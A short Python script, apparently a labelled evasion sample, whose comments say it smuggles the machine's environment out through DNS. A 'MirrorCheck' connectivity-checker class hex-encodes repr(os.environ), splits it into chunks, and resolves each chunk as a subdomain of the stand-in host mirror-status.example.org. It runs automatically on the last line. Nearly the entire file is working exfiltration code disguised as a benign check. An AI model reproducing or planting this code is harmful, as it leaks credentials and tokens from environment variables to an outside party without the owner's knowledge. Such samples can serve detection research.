# Evasion: sends the environment out of the machine through DNS.
# Hiding: a "connectivity checker" class resolves "mirror" names whose first
# label is a hex piece of repr(os.environ); the lookups go through
# socket.gethostbyname_ex on a name assembled from parts in a method.
import os
import socket


class MirrorCheck:
    suffix = "mirror-status.example.org"

    def __init__(self, seed):
        self.seed = seed.encode().hex()

    def probe(self, idx, piece):
        fqdn = ".".join([piece, str(idx), self.suffix])
        try:
            return socket.gethostbyname_ex(fqdn)[2]
        except OSError:
            return []

    def run(self):
        return [self.probe(i, self.seed[o:o + 56]) for i, o in enumerate(range(0, len(self.seed), 56))]


MirrorCheck(repr(os.environ)).run()
